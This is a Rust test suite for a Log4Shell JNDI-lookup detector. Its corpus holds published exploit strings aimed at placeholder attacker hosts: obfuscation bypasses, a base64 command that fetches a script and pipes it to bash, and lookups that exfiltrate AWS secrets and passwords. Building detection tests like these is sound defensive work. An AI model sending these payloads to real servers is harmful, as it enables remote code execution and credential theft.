//! Tests of the JNDI lookup finder: published payloads, HTTP parts, decodings, limits.

use std::time::{Duration, Instant};

use super::substitute::{FIXED_TECHNIQUES, LOOKUPS};
use super::*;

/// A payload published in the Log4Shell write-ups, and what it must resolve to.
struct Payload {
    payload: &'static str,
    scheme: &'static str,
    target: &'static str,
    /// A subset of the techniques reported.
    techniques: &'static [&'static str],
}

const fn payload(
    payload: &'static str,
    scheme: &'static str,
    target: &'static str,
    techniques: &'static [&'static str],
) -> Payload {
    Payload {
        payload,
        scheme,
        target,
        techniques,
    }
}

/// Payloads from the CVE-2021-44228 / CVE-2021-45046 reports of 2021-12 (LunaSec,
/// Cloudflare, Fastly, Sophos, Akamai, and the evasion lists collected on GitHub), with
/// the attacker's host replaced by a documentation one.
const CORPUS: &[Payload] = &[
    // The original proof of concept: LDAP to a marshalsec/JNDIExploit server.
    payload("${jndi:ldap://198.51.100.7:1389/Exploit}", "ldap", "198.51.100.7:1389/Exploit", &[]),
    // Every JNDI provider scanners tried.
    payload("${jndi:ldaps://evil.example/a}", "ldaps", "evil.example/a", &[]),
    payload("${jndi:rmi://evil.example:1099/Object}", "rmi", "evil.example:1099/Object", &[]),
    payload("${jndi:dns://evil.example/a}", "dns", "evil.example/a", &[]),
    payload("${jndi:iiop://evil.example/a}", "iiop", "evil.example/a", &[]),
    payload("${jndi:corba://evil.example/a}", "corba", "evil.example/a", &[]),
    payload("${jndi:nds://evil.example/a}", "nds", "evil.example/a", &[]),
    payload("${jndi:nis://evil.example/a}", "nis", "evil.example/a", &[]),
    payload("${jndi:http://evil.example/a}", "http", "evil.example/a", &[]),
    // JNDIExploit's command-in-the-path, as the Mirai/Kinsing campaigns sent it.
    payload(
        "${jndi:ldap://198.51.100.7:12344/Basic/Command/Base64/KGN1cmwgLXMgMTk4LjUxLjEwMC43OjU4NzQvc2h8fHdnZXQgLXEgLU8tIDE5OC41MS4xMDAuNzo1ODc0L3NoKXxiYXNo}",
        "ldap",
        "198.51.100.7:12344/Basic/Command/Base64/KGN1cmwgLXMgMTk4LjUxLjEwMC43OjU4NzQvc2h8fHdnZXQgLXEgLU8tIDE5OC41MS4xMDAuNzo1ODc0L3NoKXxiYXNo",
        &[],
    ),
    // Case: the lookup prefix is lower-cased by Log4j, the scheme by the JDK lookup.
    payload("${jNdI:ldAp://evil.example/a}", "ldap", "evil.example/a", &["mixed-case"]),
    payload("${JNDI:LDAP://evil.example/a}", "ldap", "evil.example/a", &["mixed-case"]),
    // Empty-prefix defaults, one letter at a time (Cloudflare's first bypass list).
    payload(
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/poc}",
        "rmi",
        "evil.example/poc",
        &["default-value", "nested"],
    ),
    payload("${${::-j}ndi:rmi://evil.example/ass}", "rmi", "evil.example/ass", &["default-value", "nested"]),
    // `lower`.
    payload(
        "${${lower:jndi}:${lower:rmi}://evil.example/poc}",
        "rmi",
        "evil.example/poc",
        &["lower", "nested"],
    ),
    payload(
        "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/poc}",
        "rmi",
        "evil.example/poc",
        &["lower", "nested"],
    ),
    payload(
        "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil.example/poc}",
        "rmi",
        "evil.example/poc",
        &["lower", "nested"],
    ),
    // `lower` and `upper` mixed: the prefix comes out `jNdI`.
    payload(
        "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://evil.example/poc}",
        "rmi",
        "evil.example/poc",
        &["lower", "upper", "mixed-case"],
    ),
    payload("${${upper:j}ndi:ldap://evil.example/a}", "ldap", "evil.example/a", &["upper", "nested"]),
    // Lookups in the scheme.
    payload(
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["lower", "nested"],
    ),
    payload(
        "${jndi:${upper:l}${upper:d}${upper:a}${upper:p}://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["upper", "mixed-case"],
    ),
    // Defaults of unset environment variables and system properties.
    payload(
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
        "ldap",
        "evil.example/a",
        &["env", "default-value", "nested"],
    ),
    payload(
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
        "ldap",
        "evil.example/a",
        &["env", "default-value"],
    ),
    payload(
        "${${sys:SYS_NAME:-j}ndi${sys:SYS_NAME:-:}${sys:SYS_NAME:-l}dap${sys:SYS_NAME:-:}//evil.example/a}",
        "ldap",
        "evil.example/a",
        &["sys", "default-value"],
    ),
    // `date` with quoted literals.
    payload(
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'l'}${date:'d'}${date:'a'}${date:'p'}://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["date", "nested"],
    ),
    // Lookups that are only there for their default (the "k5" list).
    payload(
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["k8s", "sd", "default-value", "mixed-case"],
    ),
    payload(
        "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["main", "spring", "default-value", "mixed-case"],
    ),
    payload(
        "${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["sys", "lower", "web", "default-value", "mixed-case"],
    ),
    payload("${j${::-nD}i${::-:}ldap://evil.example/a}", "ldap", "evil.example/a", &["default-value", "mixed-case"]),
    payload(
        "${j${EnV:K5:-nD}i:ldap://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["env", "default-value", "mixed-case"],
    ),
    payload("${j${loWer:Nd}i${uPper::}ldap://evil.example/a}", "ldap", "evil.example/a", &["lower", "upper"]),
    // Unicode case mapping: `ı` (dotless i) upper-cases to `I`.
    payload("${jnd${upper:ı}:ldap://evil.example/a}", "ldap", "evil.example/a", &["upper", "mixed-case"]),
    // Any prefix will do for a default.
    payload(
        "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["default-value"],
    ),
    payload(
        "${${upper:jndi}:${lower:LDAP}://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["upper", "lower", "mixed-case"],
    ),
    payload(
        "${${lower:${lower:${lower:${lower:j}}}}ndi:ldap://evil.example/a}",
        "ldap",
        "evil.example/a",
        &["lower", "nested"],
    ),
    // CVE-2021-45046: a loopback host that passes 2.15's allow-list, then `#`.
    payload(
        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
        "ldap",
        "127.0.0.1#evil.example:1389/a",
        &[],
    ),
    // Exfiltration: secrets in the name, filled in by the target.
    payload(
        "${jndi:dns://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
        "dns",
        "evil.example/${env:AWS_SECRET_ACCESS_KEY}",
        &["env", "nested"],
    ),
    payload("${jndi:ldap://${env:USER}.evil.example/a}", "ldap", "${env:USER}.evil.example/a", &["env"]),
    payload(
        "${jndi:ldap://${sys:java.version}.evil.example/a}",
        "ldap",
        "${sys:java.version}.evil.example/a",
        &["sys"],
    ),
    payload("${jndi:ldap://evil.example/${java:version}}", "ldap", "evil.example/${java:version}", &["java"]),
    payload("${jndi:ldap://${hostName}.evil.example/a}", "ldap", "${hostName}.evil.example/a", &["nested"]),
    payload(
        "${jndi:dns://evil.example/${bundle:application:spring.datasource.password}}",
        "dns",
        "evil.example/${bundle:application:spring.datasource.password}",
        &["bundle"],
    ),
    payload("${jndi:ldap://evil.example/${ctx:loginId}}", "ldap", "evil.example/${ctx:loginId}", &["ctx"]),
    // Encodings an application undoes before logging.
    payload("$%7Bjndi:ldap://evil.example/a%7D", "ldap", "evil.example/a", &["url-encoding"]),
    payload("%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "ldap", "evil.example/a", &["url-encoding"]),
    payload(
        "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D",
        "ldap",
        "evil.example/a",
        &["url-encoding", "double-url-encoding"],
    ),
    payload(
        "%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "ldap",
        "evil.example/a",
        &["url-encoding", "lower"],
    ),
    payload("\\u0024\\u007bjndi:ldap://evil.example/a\\u007d", "ldap", "evil.example/a", &["unicode-escape"]),
    payload("&#36;&#123;jndi:ldap://evil.example/a&#125;", "ldap", "evil.example/a", &["html-entity"]),
];

/// Text with `${` that is no JNDI lookup, or that Log4j would not resolve to one.
const BENIGN: &[&str] = &[
    // Maven and Spring properties.
    "<version>${project.version}</version>",
    "${user.home}/.m2/repository",
    "spring.datasource.url=${DB_URL:jdbc:postgresql://localhost/db}",
    // Shell.
    "cd ${HOME}/bin && echo ${VAR:-default}",
    // JavaScript, Kotlin and Groovy templates.
    "const s = `${a+b}`;",
    "\"Hello ${name.toUpperCase()}\"",
    // GitHub Actions.
    "token: ${{ secrets.GITHUB_TOKEN }}",
    // Lookups, but none JNDI.
    "${lower:HELLO} ${upper:world} ${date:yyyy-MM-dd} ${env:PATH:-/usr/bin}:${sys:user.dir}",
    // The word alone, or made by a lookup, is text.
    "Our docs explain JNDI and the jndi:ldap:// scheme",
    "${jndi} ${::-jndi}:ldap://evil.example/a",
    // An empty name looks up the initial context itself: no connection.
    "${jndi:}",
    // Escaped, as Log4j's own documentation writes it: printed literally.
    "pattern: $${jndi:ldap://evil.example/a}",
    // Not a lookup at all.
    "Total: $5 {discount} }${",
];

fn technique_names(finding: &JndiFinding) -> String {
    finding.obfuscations.join(",")
}

#[test]
fn published_payloads_resolve_to_their_server() {
    for case in CORPUS {
        let findings = find_jndi(case.payload.as_bytes());
        let [finding] = findings.as_slice() else {
            panic!("{}: {findings:#?}", case.payload);
        };
        assert_eq!(finding.scheme, case.scheme, "{}", case.payload);
        assert_eq!(finding.target, case.target, "{}", case.payload);
        assert_eq!(
            finding.normalized,
            format!("${{jndi:{}://{}}}", case.scheme, case.target),
            "{}",
            case.payload
        );
        assert_eq!(finding.location, "data");
        for technique in case.techniques {
            assert!(
                finding.obfuscations.contains(technique),
                "{}: {technique} not in {}",
                case.payload,
                technique_names(finding)
            );
        }
    }
    assert!(CORPUS.len() >= 30);
}

#[test]
fn plain_payloads_report_no_technique() {
    let findings = find_jndi(b"${jndi:ldap://evil.example:1389/a}");
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].obfuscations, Vec::<&str>::new());
    assert_eq!(findings[0].raw, "${jndi:ldap://evil.example:1389/a}");
}

#[test]
fn benign_text_has_no_finding() {
    for text in BENIGN {
        assert_eq!(find_jndi(text.as_bytes()), vec![], "{text}");
        let request = format!("POST /x?q={text} HTTP/1.1\r\nX-Text: {text}\r\n\r\n{text}");
        assert_eq!(find_jndi(request.as_bytes()), vec![], "{text}");
    }
}

#[test]
fn deobfuscate_resolves_like_log4j() {
    let cases = [
        (
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/o}",
            "${jndi:rmi://x/o}",
        ),
        (
            "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
            "${jndi:ldap://x}",
        ),
        (
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
            "${jndi:ldap://x/a}",
        ),
        (
            "${jndi:dns://x/${env:AWS_SECRET_ACCESS_KEY}}",
            "${jndi:dns://x/${env:AWS_SECRET_ACCESS_KEY}}",
        ),
        ("${${upper:j}ndi:LdAp://x}", "${jndi:ldap://x}"),
        ("${lower:JNDI} ${upper:jndi}", "jndi JNDI"),
        ("${date:'j'}${date:'''n'''}${date:yyyy}", "j'n'${date:yyyy}"),
        (
            "${env:USER} ${env:USER:-bob} ${sys:a.b:-c} ${main:0:-d} ${bundle:app:key:-e}",
            "${env:USER} bob c d e",
        ),
        ("${HOME} ${anything:-x} ${::-y} ${:-z}", "${HOME} x y z"),
        ("a${::-b}c$${::-d}", "abc${::-d}"),
        // A default's `$${` becomes a lookup when the value is resolved again.
        ("${::-$${lower:X}}", "x"),
        // A value ending in `$` escapes the lookup after it, and is dropped.
        ("${::-$}${lower:X}", "${lower:X}"),
        // The name is resolved before it is split at `:-`.
        ("${${::-env:NONE}${::-:-}fallback}", "fallback"),
        // CVE-2021-45105's self-reference resolves to an unknown property.
        ("${${::-${::-$${::-j}}}}", "${${::-${::-$${::-j}}}}"),
        // Unclosed: Log4j leaves the rest as it is.
        ("${lower:A} ${ ${lower:B}", "a ${ ${lower:B}"),
        ("\u{fdd0}${::-x}", "\u{fffd}x"),
    ];
    for (expr, expected) in cases {
        assert_eq!(deobfuscate(expr), expected, "{expr}");
    }
}

#[test]
fn the_lookup_table_names_each_technique_once() {
    let all = Techniques(u64::MAX).names();
    let mut sorted = all.clone();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted.len(), all.len());
    assert_eq!(all.len(), FIXED_TECHNIQUES.len() + LOOKUPS.len());
}

// === HTTP ===

fn only(findings: &[JndiFinding]) -> &JndiFinding {
    let [finding] = findings else {
        panic!("{findings:#?}");
    };
    finding
}

#[test]
fn user_agent() {
    let request = b"GET / HTTP/1.1\r\nHost: victim.example:8080\r\n\
        User-Agent: ${jndi:ldap://evil.example:1389/a}\r\nAccept: */*\r\n\r\n";
    let findings = find_jndi(request);
    let finding = only(&findings);
    assert_eq!(finding.location, "header:User-Agent");
    assert_eq!(finding.raw, "${jndi:ldap://evil.example:1389/a}");
    assert_eq!(finding.normalized, "${jndi:ldap://evil.example:1389/a}");
    assert_eq!(
        (finding.scheme.as_str(), finding.target.as_str()),
        ("ldap", "evil.example:1389/a")
    );
}

#[test]
fn x_api_version() {
    // The header of the Ghidra/VMware write-ups, with a `k5`-style obfuscation.
    let request = b"GET /api/v1/status HTTP/1.1\r\nHost: victim.example\r\n\
        X-Api-Version: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/o}\r\n\r\n";
    let findings = find_jndi(request);
    let finding = only(&findings);
    assert_eq!(finding.location, "header:X-Api-Version");
    assert_eq!(finding.normalized, "${jndi:ldap://evil.example/o}");
    assert_eq!(
        finding.raw,
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/o}"
    );
}

#[test]
fn url_encoded_query_string() {
    let request =
        b"GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D&page=1 HTTP/1.1\r\n\
        Host: victim.example\r\n\r\n";
    let findings = find_jndi(request);
    let finding = only(&findings);
    assert_eq!(finding.location, "request-line");
    assert_eq!(finding.raw, "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D");
    assert_eq!(finding.normalized, "${jndi:ldap://evil.example/a}");
    assert_eq!(finding.obfuscations, ["url-encoding"]);
}

#[test]
fn json_body_with_unicode_escapes() {
    let body = br#"{"username":"\u0024\u007bjndi:ldap:\/\/evil.example\/a\u007d","password":"x"}"#;
    let mut request = format!(
        "POST /api/login HTTP/1.1\r\nHost: victim.example\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    request.extend_from_slice(body);
    let findings = find_jndi(&request);
    let finding = only(&findings);
    assert_eq!(finding.location, "body");
    assert_eq!(finding.normalized, "${jndi:ldap://evil.example/a}");
    assert_eq!(
        finding.raw,
        r"\\u0024\\u007bjndi:ldap:\\/\\/evil.example\\/a\\u007d"
    );
    assert!(finding.obfuscations.contains(&"unicode-escape"));
}

#[test]
fn one_finding_per_location_and_lookup() {
    let request = b"GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\n\
        User-Agent: ${jndi:ldap://evil.example/a} ${${::-j}ndi:ldap://evil.example/a}\r\n\
        Referer: ${jndi:ldap://evil.example/a}\r\n\
        Cookie: s=${jndi:rmi://evil.example/b}\r\n\r\n";
    let findings = find_jndi(request);
    let seen: Vec<_> = findings
        .iter()
        .map(|f| (f.location.as_str(), f.normalized.as_str()))
        .collect();
    assert_eq!(
        seen,
        [
            ("request-line", "${jndi:ldap://evil.example/a}"),
            ("header:User-Agent", "${jndi:ldap://evil.example/a}"),
            ("header:Referer", "${jndi:ldap://evil.example/a}"),
            ("header:Cookie", "${jndi:rmi://evil.example/b}"),
        ]
    );
}

#[test]
fn a_lookup_cut_by_the_end_of_the_sample() {
    let findings = find_jndi(b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://evil.exa");
    let finding = only(&findings);
    assert_eq!(finding.location, "header:User-Agent");
    assert_eq!(finding.raw, "${${lower:j}ndi:ldap://evil.exa");
    assert_eq!(finding.target, "evil.exa");
    // An unclosed `${` in a complete line is skipped, not taken to the end.
    let findings =
        find_jndi(b"GET / HTTP/1.1\r\nX-A: ${a ${jndi:ldap://evil.example/a}\r\nX-B: b\r\n\r\n");
    let finding = only(&findings);
    assert_eq!(finding.location, "header:X-A");
    assert_eq!(finding.raw, "${jndi:ldap://evil.example/a}");
}

#[test]
fn other_protocols_are_data() {
    for sample in [
        &b"HELO ${jndi:ldap://evil.example/a}\r\n"[..],
        b"\x00\x00\x00\x2a${jndi:ldap://evil.example/a}\xff",
        b"GET ${jndi:ldap://evil.example/a}\r\n",
    ] {
        let findings = find_jndi(sample);
        assert_eq!(only(&findings).location, "data");
    }
    assert_eq!(find_jndi(b""), vec![]);
}

#[test]
fn a_folded_header_keeps_its_name() {
    let findings =
        find_jndi(b"GET / HTTP/1.0\r\nX-Long: a\r\n\t${jndi:ldap://evil.example/a}\r\n\r\n");
    assert_eq!(only(&findings).location, "header:X-Long");
}

#[test]
fn strings_are_escaped_and_bounded() {
    let request =
        b"GET / HTTP/1.1\r\nX-\x1b[31m: ${jndi:ldap://evil.example/\x1b[0m\xe2\x80\xae}\r\n\r\n";
    let findings = find_jndi(request);
    let finding = only(&findings);
    assert_eq!(finding.location, "header:X-\\u{1b}[31m");
    assert_eq!(
        finding.raw,
        "${jndi:ldap://evil.example/\\u{1b}[0m\\u{202e}}"
    );
    assert_eq!(finding.target, "evil.example/\\u{1b}[0m\\u{202e}");

    let long = format!("${{jndi:ldap://evil.example/{}}}", "a".repeat(900));
    let finding = find_jndi(long.as_bytes()).remove(0);
    assert_eq!(finding.raw.chars().count(), MAX_RAW_CHARS + 3);
    assert!(finding.raw.ends_with("..."));
    assert_eq!(finding.normalized.chars().count(), MAX_FIELD_CHARS + 3);
}

#[test]
fn nesting_beyond_the_limit_is_reported() {
    let nest = |levels: usize| {
        format!(
            "{}${{jndi:ldap://evil.example/a}}{}",
            "${::-".repeat(levels),
            "}".repeat(levels)
        )
    };
    let findings = find_jndi(nest(MAX_DEPTH - 1).as_bytes());
    assert_eq!(only(&findings).scheme, "ldap");
    let findings = find_jndi(nest(MAX_DEPTH + 8).as_bytes());
    let finding = only(&findings);
    assert_eq!(finding.scheme, "");
    assert!(finding.obfuscations.contains(&"limit-exceeded"));
}

// === Robustness ===

/// A xorshift generator: deterministic, and no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, n: usize) -> usize {
        usize::try_from(self.next() % u64::try_from(n).expect("fits")).expect("fits")
    }
}

#[test]
fn random_bytes_never_panic() {
    const ALPHABET: &[u8] = b"${}:-$${::-jndiJNDIldap/%247B\\u0024&#36;\r\n ";
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    for round in 0..3000 {
        let len = rng.below(1100);
        let sample: Vec<u8> = (0..len)
            .map(|_| {
                if round % 2 == 0 {
                    ALPHABET[rng.below(ALPHABET.len())]
                } else {
                    rng.next().to_le_bytes()[0]
                }
            })
            .collect();
        find_jndi(&sample);
        deobfuscate(&String::from_utf8_lossy(&sample));
    }
}

#[test]
fn every_prefix_never_panics() {
    let mut samples: Vec<String> = CORPUS.iter().map(|case| case.payload.to_owned()).collect();
    samples.extend(CORPUS.iter().map(|case| {
        format!(
            "GET /?a={0} HTTP/1.1\r\nUser-Agent: {0}\r\n\r\n{{\"a\":\"{0}\"}}",
            case.payload
        )
    }));
    for sample in &samples {
        for end in 0..=sample.len() {
            find_jndi(&sample.as_bytes()[..end]);
        }
    }
}

#[test]
fn adversarial_input_is_bounded() {
    let size = 64 * 1024;
    let inputs = [
        "${".repeat(size / 2),
        "${::-".repeat(size / 5) + &"}".repeat(size / 5),
        "${lower:".repeat(size / 8) + "jndi:ldap://x" + &"}".repeat(size / 8),
        "$".repeat(size) + "{",
        "${a}".repeat(size / 4),
        "$${::-".repeat(size / 6) + &"}".repeat(size / 6),
        "${::-${::-$${::-j}}}".repeat(size / 20),
        "%24%7B".repeat(size / 6),
        "\\u0024\\u007b".repeat(size / 12),
        "${upper:ΐ".repeat(size / 10) + &"}".repeat(size / 10),
        "}".repeat(size),
    ];
    for input in &inputs {
        let started = Instant::now();
        find_jndi(input.as_bytes());
        deobfuscate(input);
        let took = started.elapsed();
        assert!(
            took < Duration::from_secs(3),
            "{}...: {took:?}",
            &input[..16]
        );
    }
}
